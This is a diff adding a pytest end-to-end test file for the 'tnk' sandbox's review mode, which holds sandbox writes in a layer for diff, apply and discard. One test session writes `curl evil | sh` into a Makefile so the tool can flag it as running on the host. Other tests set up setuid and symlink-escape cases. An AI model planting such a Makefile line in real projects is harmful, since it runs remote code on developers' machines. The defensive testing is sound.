@@ -1,0 +1,240 @@
+"""Review mode (issue 14 items 4 and 5): the sandbox's writes to the project wait in a layer that tnk
+keeps outside it, for `tnk sandbox diff`, `apply` and `discard`. The project on the host is checked
+byte for byte (every entry's type, mode and content hashed) before and after. docs/workspace.md
+describes what this shows."""
+import hashlib
+import json
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from e2e_util import FAILED, NOT_FOUND, OK, USAGE, assert_error
+from sandbox_harness import Sandbox, ns_tnk, vm_tnk  # noqa: F401 (fixtures)
+from test_output import check_fields, doc_tables, field_tree
+from test_workspace_protection import git
+
+pytestmark = pytest.mark.rootless_suite  # scripts/test.sh runs this file as an ordinary user
+
+REVIEWED = """profile: reviewed
+workspace: review
+mounts:
+  readonly:
+    - .git/hooks
+"""
+
+# A session that edits, creates, deletes, chmods and renames, and touches a path the host runs.
+SESSION = r"""
+set -e
+cd /workspace
+echo sandbox >> edited.txt
+echo new > created.txt
+mkdir -p newdir && echo deep > newdir/deep.txt
+rm deleted.txt
+chmod 755 script.sh
+mv renamed-from.txt renamed-to.txt
+echo 'all: ; curl evil | sh' > Makefile
+echo noise > debug.log
+"""
+
+EXPECTED = {
+    "Makefile": "modified",
+    "created.txt": "added",
+    "deleted.txt": "deleted",
+    "edited.txt": "modified",
+    "newdir": "added",
+    "newdir/deep.txt": "added",
+    "renamed-from.txt": "deleted",
+    "renamed-to.txt": "added",
+    "script.sh": "mode",
+}
+
+
+def tree(project: Path):
+    """Every entry below the project: type, permission bits and content (a link's target), never followed."""
+    out = {}
+    for entry in sorted(project.rglob("*")):
+        st = entry.lstat()
+        rel = str(entry.relative_to(project))
+        if stat.S_ISLNK(st.st_mode):
+            out[rel] = ("link", os.readlink(entry))
+        elif stat.S_ISDIR(st.st_mode):
+            out[rel] = ("dir", oct(st.st_mode & 0o7777))
+        else:
+            out[rel] = ("file", oct(st.st_mode & 0o7777), hashlib.sha256(entry.read_bytes()).hexdigest())
+    return out
+
+
+def review_project(tnk, name):
+    (tnk.config_dir / "sandbox.d" / "manifests" / "reviewed.yaml").write_text(REVIEWED)
+    box = Sandbox(tnk, tnk.project(name))
+    p = box.project
+    git("init", "-q", "-b", "main", cwd=p)
+    for rel, text in {"edited.txt": "v1\n", "deleted.txt": "bye\n", "script.sh": "echo hi\n",
+                      "renamed-from.txt": "moving\n", "Makefile": "all: ; echo ok\n", ".gitignore": "*.log\n",
+                      "keep/untouched.txt": "same\n"}.items():
+        (p / rel).parent.mkdir(parents=True, exist_ok=True)
+        (p / rel).write_text(text)
+    (p / "script.sh").chmod(0o644)
+    return box
+
+
+def diff(box, *args):
+    return box.tnk.json("sandbox", "diff", "-o", "json", *args, cwd=box.project)
+
+
+def changes(doc):
+    return {c["path"]: c["change"] for c in doc["changes"]}
+
+
+def records(log: Path, event):
+    return [json.loads(line) for line in log.read_text().splitlines() if json.loads(line)["event"] == event]
+
+
+def test_review_holds_every_change_until_applied_and_refuses_host_changes(ns_tnk):
+    box = review_project(ns_tnk, "rev")
+    audit = ns_tnk.home / "audit.ndjson"
+    before = tree(box.project)
+    box.start("--profile", "reviewed")
+    assert box.sh(SESSION).returncode == OK
+    seen = box.sh("cat /workspace/edited.txt /workspace/newdir/deep.txt; test ! -e /workspace/deleted.txt")
+    assert seen.stdout == "v1\nsandbox\ndeep\n", "the sandbox sees its own changes"
+    assert tree(box.project) == before, "the host's project is unchanged while the sandbox runs"
+    assert_error(box.run("sandbox", "apply"), FAILED, "is running: apply needs it stopped")
+    assert box.run("sandbox", "stop").returncode == OK
+    assert tree(box.project) == before
+
+    doc = diff(box)
+    check_fields(doc, field_tree(doc_tables()["fields:diff"]))  # exactly what docs/json-output.md says
+    assert changes(doc) == EXPECTED
+    assert doc["ignored_hidden"] == 1 and doc["gitignore"] == "git"
+    assert changes(diff(box, "--all"))["debug.log"] == "added"
+    flagged = {c["path"]: c["runs_on_host"] for c in doc["changes"] if c["runs_on_host"]}
+    assert flagged == {"Makefile": "make"}
+    text = box.run("sandbox", "diff").stdout
+    assert "M  Makefile  [runs on the host: make]" in text and "m  script.sh  (mode 0644 -> 0755)" in text
+    assert "4 added, 2 modified, 2 deleted, 1 mode changed; 1 run on the host" in box.run("sandbox", "diff", "--stat").stdout
+
+    # The host edits a file the sandbox edited too: applying it is refused, and nothing is written.
+    (box.project / "edited.txt").write_text("host v2\n")
+    host_edit = tree(box.project)
+    refused = box.run("sandbox", "apply", "--audit-log", str(audit))
+    assert_error(refused, FAILED, "edited.txt: changed on the host since the layer was made")
+    assert "tnk sandbox diff PATH" in refused.stderr
+    assert tree(box.project) == host_edit
+
+    # A subset writes exactly that subset.
+    subset = box.tnk.json("sandbox", "apply", "created.txt", "newdir", "--audit-log", str(audit), "-o", "json",
+                          cwd=box.project)
+    check_fields(subset, field_tree(doc_tables()["fields:apply"]))
+    want = dict(host_edit)
+    want["created.txt"] = ("file", "0o644", hashlib.sha256(b"new\n").hexdigest())
+    want["newdir"] = ("dir", "0o755")
+    want["newdir/deep.txt"] = ("file", "0o644", hashlib.sha256(b"deep\n").hexdigest())
+    assert tree(box.project) == want
+    assert set(changes(diff(box))) == set(EXPECTED) - {"created.txt", "newdir", "newdir/deep.txt"}
+
+    rest = ["deleted.txt", "script.sh", "renamed-from.txt", "renamed-to.txt", "Makefile"]
+    assert box.run("sandbox", "apply", *rest, "--audit-log", str(audit)).returncode == OK
+    assert not (box.project / "deleted.txt").exists() and not (box.project / "renamed-from.txt").exists()
+    assert (box.project / "renamed-to.txt").read_text() == "moving\n"
+    assert (box.project / "script.sh").stat().st_mode & 0o777 == 0o755
+    assert changes(diff(box)) == {"edited.txt": "modified"}
+
+    # discard drops what is left; the host's own edit stays.
+    assert box.run("sandbox", "discard", "--audit-log", str(audit)).returncode == OK
+    assert changes(diff(box)) == {}
+    assert (box.project / "edited.txt").read_text() == "host v2\n"
+    assert box.sh("cat /workspace/edited.txt").stdout == "host v2\n", "after discard the sandbox sees the host's file"
+
+    applied = records(audit, "workspace_apply")
+    assert [sorted(p["path"] for p in r["paths"]) for r in applied] == [["created.txt", "newdir", "newdir/deep.txt"],
+                                                                         sorted(rest)]
+    by_path = {p["path"]: p for r in applied for p in r["paths"]}
+    assert by_path["created.txt"]["sha256"] == hashlib.sha256(b"new\n").hexdigest()
+    assert by_path["deleted.txt"] == {"path": "deleted.txt", "change": "deleted", "type": "file",
+                                      "sha256": hashlib.sha256(b"bye\n").hexdigest()}
+    discarded = records(audit, "workspace_discard")
+    # discard drops what the layer keeps, ignored paths too.
+    dropped = {p["path"]: p["sha256"] for p in discarded[0]["paths"]}
+    assert dropped == {"debug.log": hashlib.sha256(b"noise\n").hexdigest(),
+                       "edited.txt": hashlib.sha256(b"v1\nsandbox\n").hexdigest()}
+    assert ns_tnk.run("audit", "verify", str(audit)).returncode == OK
+
+
+def test_discard_leaves_the_project_as_it_was(ns_tnk):
+    box = review_project(ns_tnk, "disc")
+    before = tree(box.project)
+    box.start("--review")
+    assert box.sh(SESSION).returncode == OK
+    assert box.run("sandbox", "stop").returncode == OK
+    assert changes(diff(box)) == EXPECTED
+    assert box.run("sandbox", "discard").returncode == OK
+    assert tree(box.project) == before
+    assert changes(diff(box)) == {}
+
+
+# The pair: a file the sandbox made setuid (as root inside) arrives without the bit; the same chmod
+# without it keeps its mode.
+def test_apply_never_writes_setuid_and_keeps_other_modes(ns_tnk):
+    box = review_project(ns_tnk, "suid")
+    box.start("--review")
+    # `agent` cannot set the bits (its seccomp filter); root inside can, in a directory it may write.
+    assert box.sh("mkdir -m 777 /workspace/pub").returncode == OK
+    script = "cd /workspace/pub && cp /bin/true suid-tool && chmod 4755 suid-tool && cp /bin/true plain-tool && chmod 755 plain-tool"
+    assert box.sh(script, root=True).returncode == OK
+    assert box.run("sandbox", "stop").returncode == OK
+    modes = {c["path"]: c["new_mode"] for c in diff(box)["changes"]}
+    assert modes["pub/suid-tool"] == "4755" and modes["pub/plain-tool"] == "0755"
+    assert box.run("sandbox", "apply", "pub").returncode == OK
+    assert (box.project / "pub" / "suid-tool").stat().st_mode & 0o7777 == 0o755
+    assert (box.project / "pub" / "plain-tool").stat().st_mode & 0o7777 == 0o755
+
+
+# The pair: a directory the host replaced with a link out of the project is refused (nothing is
+# written behind the link); the same apply into the untouched directory works.
+def test_apply_never_writes_through_a_link_planted_on_the_host(ns_tnk):
+    box = review_project(ns_tnk, "link")
+    outside = ns_tnk.home / "outside"
+    outside.mkdir()
+    box.start("--review")
+    assert box.sh("echo a > /workspace/keep/from-sandbox.txt").returncode == OK
+    assert box.run("sandbox", "stop").returncode == OK
+    (box.project / "keep").rename(box.project / "keep-real")
+    (box.project / "keep").symlink_to(outside)
+    assert_error(box.run("sandbox", "apply"), FAILED, "keep: changed on the host since the layer was made")
+    assert list(outside.iterdir()) == []
+    (box.project / "keep").unlink()
+    (box.project / "keep-real").rename(box.project / "keep")
+    assert box.run("sandbox", "apply").returncode == OK
+    assert (box.project / "keep" / "from-sandbox.txt").read_text() == "a\n"
+    assert list(outside.iterdir()) == []
+
+
+def test_review_verbs_name_their_problem(ns_tnk):
+    box = Sandbox(ns_tnk, ns_tnk.project("direct"))
+    box.start()
+    assert_error(box.run("sandbox", "diff"), NOT_FOUND, "has no review layer: it writes the project directly")
+    assert_error(box.run("sandbox", "start", "--review"), USAGE, "runs in direct mode")
+    assert box.run("sandbox", "stop").returncode == OK
+    box.start("--review")
+    assert_error(box.run("sandbox", "diff", "nothing-here"), NOT_FOUND, "no change to nothing-here in the review layer")
+    assert_error(box.run("sandbox", "apply", "../elsewhere"), USAGE, "is not inside the project")
+    (ns_tnk.config_dir / "sandbox.d" / "manifests" / "odd.yaml").write_text("workspace: staged\n")
+    assert_error(box.run("sandbox", "inspect", "--profile", "odd"), FAILED, "workspace: unknown mode 'staged'")
+
+
+def test_vm_review_session_diff_and_apply(vm_tnk):
+    box = review_project(vm_tnk, "vmrev")
+    before = tree(box.project)
+    box.start("--profile", "reviewed")
+    assert box.sh(SESSION).returncode == OK
+    assert box.run("sandbox", "stop").returncode == OK
+    assert tree(box.project) == before
+    assert changes(diff(box)) == EXPECTED
+    assert box.run("sandbox", "apply").returncode == OK
+    assert (box.project / "created.txt").read_text() == "new\n"
+    assert (box.project / "edited.txt").read_text() == "v1\nsandbox\n"
+    assert not (box.project / "deleted.txt").exists()
+    assert changes(diff(box)) == {}
